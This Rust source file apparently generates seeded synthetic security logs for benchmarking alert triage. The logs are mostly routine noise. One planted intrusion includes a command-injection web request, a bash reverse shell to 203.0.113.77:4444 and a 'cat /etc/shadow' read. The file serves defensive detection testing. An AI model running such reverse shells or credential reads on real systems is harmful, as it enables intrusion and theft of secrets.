//! Generated logs of any size, the same for the same seed: what benchmarks run on. A few records tell
//! of an intrusion; all others are noise of a busy network.

use std::io::{self, BufWriter, Write};
use std::path::Path;

/// The alert that belongs to the generated evidence.
pub const ALERT: &str = r#"{"id":"generated-1","rule":{"title":"Shell started by web server","level":"high"},"event_time":"2026-01-15T12:00:00Z","host":"web-017","user":"www-data","source_ip":"203.0.113.77","description":"apache2 started /bin/sh on web-017"}"#;

/// SplitMix64: chance that a seed decides.
pub(crate) struct Chance(pub(crate) u64);

impl Chance {
    pub(crate) fn next(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (z ^ (z >> 31)) % below.max(1)
    }
}

/// Writes about `bytes` of logs into `folder`: process starts, connections and web requests of one day.
///
/// # Errors
/// When a file cannot be written.
pub fn write(folder: &Path, bytes: u64, seed: u64) -> io::Result<()> {
    std::fs::create_dir_all(folder)?;
    let mut chance = Chance(seed);
    let file = |name: &str| Ok::<_, io::Error>(BufWriter::new(std::fs::File::create(folder.join(name))?));
    let (mut process, mut network, mut web) = (file("process.ndjson")?, file("conn.ndjson")?, file("access.log")?);
    // Three records of 200 to 330 bytes make about 760 bytes a step.
    let steps = (bytes / 760).max(200);
    for step in 0..steps {
        let ms = step * 86_400_000 / steps;
        noise(&mut chance, ms, &mut process, &mut network, &mut web)?;
        if step == steps / 2 {
            intrusion(&mut process, &mut network, &mut web)?;
        }
    }
    process.flush()?;
    network.flush()?;
    web.flush()
}

fn clock(ms: u64) -> String {
    let (s, ms) = (ms / 1000, ms % 1000);
    format!("2026-01-15T{:02}:{:02}:{:02}.{ms:03}Z", s / 3600 % 24, s / 60 % 60, s % 60)
}

fn noise(
    chance: &mut Chance,
    ms: u64,
    process: &mut impl Write,
    network: &mut impl Write,
    web: &mut impl Write,
) -> io::Result<()> {
    const COMMANDS: [&str; 6] = [
        "/usr/sbin/logrotate /etc/logrotate.conf",
        "/usr/bin/python3 /opt/app/worker.py --queue mail",
        "/usr/bin/find /var/cache -mtime +7",
        "ps aux",
        "/usr/lib/apt/apt.systemd.daily update",
        "/usr/bin/git fetch --all",
    ];
    const PAGES: [&str; 5] = ["/", "/login", "/static/app.js", "/api/v1/items", "/health"];
    let host = chance.next(40);
    let command = COMMANDS.get(chance.next(6) as usize).copied().unwrap_or("true");
    let pid = 1000 + chance.next(60_000);
    writeln!(
        process,
        r#"{{"time":"{}","event":"process_start","host":"web-{host:03}","pid":{pid},"ppid":{},"user":"svc{}","exe":"{}","command_line":"{command}","parent_exe":"/usr/sbin/cron","session":"{:016x}"}}"#,
        clock(ms),
        1 + chance.next(900),
        chance.next(30),
        command.split(' ').next().unwrap_or(""),
        chance.next(u64::MAX)
    )?;
    let second = 1_768_435_200 + ms / 1000;
    writeln!(
        network,
        r#"{{"ts":{second}.{:03},"uid":"C{:015x}","id.orig_h":"10.0.{}.{}","id.orig_p":{},"id.resp_h":"10.1.{}.{}","id.resp_p":{},"proto":"tcp","duration":{}.{:03},"orig_bytes":{},"resp_bytes":{},"conn_state":"SF"}}"#,
        ms % 1000,
        chance.next(u64::MAX),
        chance.next(8),
        chance.next(250),
        1024 + chance.next(60_000),
        chance.next(4),
        chance.next(250),
        [80, 443, 5432, 53].get(chance.next(4) as usize).copied().unwrap_or(80),
        chance.next(60),
        chance.next(1000),
        chance.next(90_000),
        chance.next(900_000)
    )?;
    let s = ms / 1000;
    let page = PAGES.get(chance.next(5) as usize).copied().unwrap_or("/");
    writeln!(
        web,
        r#"198.51.100.{} - - [15/Jan/2026:{:02}:{:02}:{:02} +0000] "GET {page}?r={:x} HTTP/1.1" 200 {} "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/{}.0 Safari/537.36""#,
        chance.next(250),
        s / 3600 % 24,
        s / 60 % 60,
        s % 60,
        chance.next(u64::MAX),
        chance.next(90_000),
        100 + chance.next(40)
    )
}

fn intrusion(process: &mut impl Write, network: &mut impl Write, web: &mut impl Write) -> io::Result<()> {
    writeln!(
        web,
        r#"203.0.113.77 - - [15/Jan/2026:11:59:58 +0000] "POST /upload.php?cmd=/bin/sh+-c+id HTTP/1.1" 200 512 "-" "curl/8.5.0""#
    )?;
    for (ms, pid, ppid, exe, command, parent) in [
        (
            43_200_000,
            70_001,
            812,
            "/bin/sh",
            "/bin/sh -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
            "/usr/sbin/apache2",
        ),
        (43_200_040, 70_002, 70_001, "/bin/bash", "bash -i", "/bin/sh"),
        (43_207_000, 70_003, 70_002, "/usr/bin/whoami", "whoami", "/bin/bash"),
        (43_215_000, 70_004, 70_002, "/bin/cat", "cat /etc/shadow", "/bin/bash"),
    ] {
        writeln!(
            process,
            r#"{{"time":"{}","event":"process_start","host":"web-017","pid":{pid},"ppid":{ppid},"user":"www-data","exe":"{exe}","command_line":"{command}","parent_exe":"{parent}","session":"-"}}"#,
            clock(ms)
        )?;
    }
    writeln!(
        network,
        r#"{{"ts":1768478400.110,"uid":"CdeadbeefCafe01","id.orig_h":"10.0.3.17","id.orig_p":51544,"id.resp_h":"203.0.113.77","id.resp_p":4444,"proto":"tcp","duration":95.2,"orig_bytes":9211,"resp_bytes":1522,"conn_state":"SF"}}"#
    )
}
